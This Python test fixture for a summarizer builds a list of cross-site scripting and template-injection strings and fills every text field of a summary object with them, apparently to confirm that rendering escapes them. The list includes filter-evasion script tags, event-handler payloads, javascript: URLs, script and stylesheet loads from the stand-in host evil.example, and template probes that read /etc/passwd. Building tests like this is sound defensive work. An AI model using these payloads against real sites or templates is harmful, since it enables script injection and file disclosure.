"""Texts that would run, if any part of a page took them for more than text."""

from __future__ import annotations

from summarizer.models import (
    Check,
    Claim,
    Contradiction,
    Evidence,
    Excluded,
    Note,
    OverviewSentence,
    Party,
    Rejected,
    Side,
    Speaker,
    Summary,
    Unread,
    Warning,
)
from tests.documents import bare_summary

RUN = "window.__ran=1"
_HANDLERS = (
    "onload onerror onclick onfocus onmouseover onanimationstart ontoggle onbegin onpageshow onhashchange "
    "onscroll onpointerenter onbeforeprint oncut onwheel"
).split()
_ENDINGS = "script style title textarea noscript template svg math xmp iframe select table bdi a li p".split()
_SCHEMES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"javascript&colon;{RUN}",
)

CASES: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"\x00<script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}"',
    f"<img/src=x/onerror={RUN}>",
    "<img src=https://evil.example/x.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data='javascript:{RUN}'>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><button autofocus>x",
    f"<button formaction='javascript:{RUN}'>x",
    "<base href=https://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{color:red}</style>",
    "<p style=\"background:url('https://evil.example/x')\">",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><script>{RUN}</script>-->",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    "{{ 7 * 7 }}{{ config }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${" + RUN + "}`${" + RUN + "}`",
    "{#",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\u2028{RUN}//\u2029",
    f"\u202e<script>{RUN}</script>\u202c",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"＜script＞{RUN}＜/script＞",
    f"<script>{RUN}</script\u00a0>",
    f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    f"'-({RUN})-'",
    f'";{RUN}//',
    f"\\';{RUN}//",
    f"<a href='javascript:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    *(f'"{handler}="{RUN}' for handler in _HANDLERS),
    *(f"' {handler}={RUN} x='" for handler in _HANDLERS[:5]),
    *(f'</{ending}><img src="x" onerror="{RUN}">' for ending in _ENDINGS),
    *_SCHEMES,
)


def hostile_summary() -> Summary:
    """Every case in the article, as evidence, and in every part of the summary that holds text."""
    text = "\n\n".join(CASES)
    starts = [sum(len(case) + 2 for case in CASES[:number]) for number in range(len(CASES))]
    pieces = [Evidence(start=at, end=at + len(case), quote=case) for at, case in zip(starts, CASES, strict=True)]
    claims = tuple(
        Claim(
            id=f"c{number}",
            speaker=Speaker(name=case, role=case),
            stance="asserts",
            statement=f"{case} {case}",
            statement_origin="model",
            via=Party(name=case),
            evidence=(piece,),
            key=True,
            check=Check(verdict="repaired", notes=(case,)),
        )
        for number, (case, piece) in enumerate(zip(CASES, pieces, strict=True), 1)
    )
    return bare_summary(
        text,
        source={
            "kind": "url",
            "location": f"javascript:{RUN}",
            "media_type": "text/html",
            "title": CASES[0],
            "author": CASES[9],
            "published": CASES[12],
            "language": '"><script>' + RUN + "</script>",
            "sha256": "0",
        },
        overview=tuple(
            OverviewSentence(sentence=case, supported_by=(case, f"c{n}")) for n, case in enumerate(CASES, 1)
        ),
        claims=claims,
        warnings=tuple(
            Warning(
                id=case if number % 2 else f"w{number}",
                issuer=Party(name=case),
                recipient=Party(name=case),
                danger=case,
                issued=case,
                response=case,
                claims=(case,),
                evidence=(piece,),
            )
            for number, (case, piece) in enumerate(zip(CASES, pieces, strict=True), 1)
        ),
        contradictions=tuple(
            Contradiction(
                id=case if number % 2 else f"x{number}",
                question=case,
                kind="figures",
                sides=(Side(position=case, claims=(f"c{number}", case), evidence=(piece,)),) * 2,
                explanation=case,
            )
            for number, (case, piece) in enumerate(zip(CASES, pieces, strict=True), 1)
        ),
        rejected=tuple(
            Rejected(kind="claim", item={case: case, "x": [case]}, reasons=("duplicate",), detail=case, nearest=piece)
            for case, piece in zip(CASES, pieces, strict=True)
        ),
        excluded=tuple(Excluded(start=piece.start, end=piece.end, reason=piece.quote) for piece in pieces[::3]),
        coverage={
            "characters": len(text),
            "read": 0,
            "passages": 1,
            "notes": tuple(Note(start=0, end=0, note=case) for case in CASES[1::5]),
            "unread": tuple(Unread(start=piece.start, end=piece.end, reason=piece.quote) for piece in pieces[::5]),
            "partial": True,
        },
        usage={"model": CASES[0]},
        produced_by={"version": CASES[9]},
    )
